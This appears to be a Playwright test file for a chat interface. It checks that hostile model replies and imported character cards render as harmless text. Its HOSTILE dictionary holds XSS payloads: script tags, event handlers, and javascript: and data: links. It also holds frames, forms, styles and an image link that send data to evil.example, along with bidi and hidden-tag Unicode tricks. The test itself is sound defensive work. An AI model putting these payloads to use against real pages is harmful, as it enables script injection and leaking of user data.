"""Text of models and cards is text: it runs, loads and turns around nothing, and links nowhere by stealth."""

import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Open
from tests.browser.desk import Desk
from tests.support.mock_openrouter.fixture import Mock

EVIL = "http://evil.example"
HOSTILE = {
    "script": "<script>window.hit = 1</script>",
    "handler": "<img src=x onerror='window.hit = 1'><svg onload='window.hit = 1'>",
    "frame": f"<iframe src='{EVIL}/'></iframe><object data='{EVIL}/'></object>",
    "form": f"<form action='{EVIL}/'><button>Sign in</button></form>",
    "style": f"<style>body {{ background: url({EVIL}/x) }}</style><link rel=stylesheet href='{EVIL}/x.css'>",
    "picture": f"![secret]({EVIL}/leak.png?q=everything) ![](data:image/svg+xml;base64,PHN2Zy8+)",
    "link": "[click](javascript:window.hit=1) [click](JaVaScRiPt:window.hit=1)",
    "data": "[click](data:text/html,<script>window.hit=1</script>)",
    "autolink": "<javascript:window.hit=1> <vbscript:x>",
    "reference": "[click][1]\n\n[1]: javascript:window.hit=1",
    "bidi": "\u202eylsuomynona\u202c \u2066\u2067\u202atrick",
    "tags": "plain" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden order"),
    "entities": "&lt;script&gt; &#106;avascript:x &amp;",
    "deep": "> " * 3000 + "deep",
    "table": "|a|\n|-|\n|<b onclick='window.hit=1'>b</b>|",
}


def assert_harmless(desk: Desk) -> None:
    page = desk.page
    assert page.evaluate("window.hit") is None
    dangerous = "script, iframe, object, embed, form, style, link, base, meta, svg, img, button, [onclick], [onerror]"
    assert page.locator(".text, .snippet, .about, .name, h1").locator(dangerous).count() == 0
    targets = page.locator(".text a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(targets) <= {"http:", "https:", "mailto:"}
    shown = page.locator("body").inner_text()
    assert not any(trick in shown for trick in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.fixture
def echo(open_desk: Open, mock_openrouter: Mock) -> Desk:
    """Return a page whose model says what it is told."""
    return open_desk(model="mock/echo").open()


def test_a_hostile_reply_does_nothing(echo: Desk) -> None:
    for count, text in enumerate(HOSTILE.values(), 1):
        echo.send(f"{text}\n\nnumber {count}.")
        expect(echo.replies.last).to_contain_text(f"number {count}.")
        echo.answered()
        assert_harmless(echo)


def test_a_hostile_conversation_does_nothing_where_it_is_looked_into(echo: Desk) -> None:
    echo.send("\n\n".join(HOSTILE.values())).answered()
    echo.look_inside("Prompt")
    assert_harmless(echo)
    echo.turn_to("Document")
    assert_harmless(echo)
    echo.turn_to("Events")
    echo.button("Show the events of the last turn").click()
    expect(echo.page.get_by_role("tabpanel").get_by_role("listitem").last).to_contain_text("ended")
    assert_harmless(echo)


def test_links_lead_where_they_say_and_tell_nobody_where_from(echo: Desk) -> None:
    echo.send("[a song](https://example.com/song)").answered()
    link = echo.replies.last.get_by_role("link", name="a song")

    expect(link).to_have_attribute("href", "https://example.com/song")
    expect(link).to_have_attribute("title", "https://example.com/song")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_a_hostile_card_does_nothing(open_desk: Open, tmp_path: Path) -> None:
    text = "\n\n".join(HOSTILE.values())
    fields = ("description", "personality", "scenario", "first_mes", "creator_notes", "creator")
    data = {"name": "<b>Mallory</b>\u202e", "tags": [HOSTILE["handler"]], "alternate_greetings": [text]}
    card = {"spec": "chara_card_v2", "spec_version": "2.0", "data": data | dict.fromkeys(fields, text)}
    file = tmp_path / "card.json"
    file.write_text(json.dumps(card))
    desk = open_desk().open("#/characters")

    desk.page.locator("#card-file").set_input_files(file)

    expect(desk.page.get_by_role("heading", name="<b>Mallory</b>")).to_be_visible()
    assert_harmless(desk)
    desk.page.get_by_role("button", name="begin").click()
    expect(desk.replies.first.locator(".text")).to_be_visible()
    assert_harmless(desk)
    desk.open("#/characters")
    expect(desk.page.locator("a.card").filter(has_text="Mallory")).to_be_visible()
    assert_harmless(desk)
